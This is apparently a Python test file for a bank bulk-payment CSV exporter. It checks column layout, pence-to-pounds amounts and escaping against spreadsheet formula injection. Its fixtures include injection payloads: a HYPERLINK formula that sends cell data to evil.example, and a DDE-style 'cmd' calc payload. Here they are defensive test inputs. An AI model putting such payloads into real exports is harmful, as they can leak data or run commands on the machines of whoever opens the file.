"""The bank bulk-payment CSV: layout, exact amounts, and no spreadsheet formula can ride along."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timezone

import pytest

from tests.unit.money_out.samples import CREATED, line, pay_day_batch
from wallet.money_out import (
    AlreadyExported, BatchStatus, export_bulk_csv, new_batch, pounds, protect_cell, render_bulk_csv,
)

AT = datetime(2026, 4, 21, 10, 0, tzinfo=timezone.utc)


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_layout_is_sort_code_account_number_name_amount_reference():
    table = rows(render_bulk_csv(pay_day_batch()))
    assert table[0] == ["Sort code", "Account number", "Account name", "Amount", "Reference"]
    assert table[1] == ["112233", "44556677", "AMIRA KHAN", "1234.56", "ASHDOWN PAY APR26"]
    assert table[3] == ["083210", "12001039", "HMRC CUMBERNAULD", "412.30", "123PA001234562601"]
    assert len(table) == 6


def test_no_header_when_the_bank_wants_none():
    assert rows(render_bulk_csv(pay_day_batch(), header=False))[0][0] == "112233"


def test_lines_end_with_crlf():
    text = render_bulk_csv(pay_day_batch())
    assert text.count("\r\n") == 6 and "\n" not in text.replace("\r\n", "")


@pytest.mark.parametrize("pence, text", [(1, "0.01"), (10, "0.10"), (100, "1.00"), (123_456, "1234.56"),
                                         (2_000_000_000, "20000000.00"), (-250, "-2.50"), (0, "0.00")])
def test_pounds_are_exact_from_pence(pence, text):
    assert pounds(pence) == text


@pytest.mark.parametrize("cell, safe", [
    ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"),
    ("+44 20 7946 0000", "'+44 20 7946 0000"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tcmd", "'\tcmd"),
    ("\rcmd", "'\rcmd"),
    ("Jane = Smith", "Jane = Smith"),
    ("O'Brien", "O'Brien"),
])
def test_protect_cell(cell, safe):
    assert protect_cell(cell) == safe


def test_formula_names_are_neutralised_when_names_are_kept_as_written():
    batch = new_batch("B", [
        line(1, payee_name='=HYPERLINK("http://evil.example/?"&A1,"Click")'),
        line(2, payee_name="@SUM(1+1)*cmd|' /C calc'!A0"),
        line(3, payee_name="+Tom, \"the\" Tutor"),
        line(4, payee_name="-Jane"),
        line(5, payee_name="\tTabitha"),
    ], created_at=CREATED)
    table = rows(render_bulk_csv(batch, bacs_names=False, name_length=None))
    names = [r[2] for r in table[1:]]
    assert names == ['\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'@SUM(1+1)*cmd|' /C calc'!A0",
                     "'+Tom, \"the\" Tutor", "'-Jane", "'\tTabitha"]
    assert all(not n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)


def test_a_reference_starting_with_a_hyphen_is_protected():
    batch = new_batch("B", [line(1, reference="-REF 1")], created_at=CREATED)
    assert rows(render_bulk_csv(batch))[1][4] == "'-REF 1"


def test_bacs_folded_names_are_the_default_and_are_cut_to_18():
    batch = new_batch("B", [line(1, payee_name="Brightside Care & Support Ltd")], created_at=CREATED)
    assert rows(render_bulk_csv(batch))[1][2] == "BRIGHTSIDE CARE &"


def test_export_moves_the_batch_on_and_cannot_repeat():
    out = export_bulk_csv(pay_day_batch(), at=AT)
    assert out.batch.status is BatchStatus.EXPORTED and out.batch.export_format == "bulk_csv"
    assert out.batch.export_digest == out.digest
    with pytest.raises(AlreadyExported, match="already exported \\(bulk_csv"):
        export_bulk_csv(out.batch, at=AT)
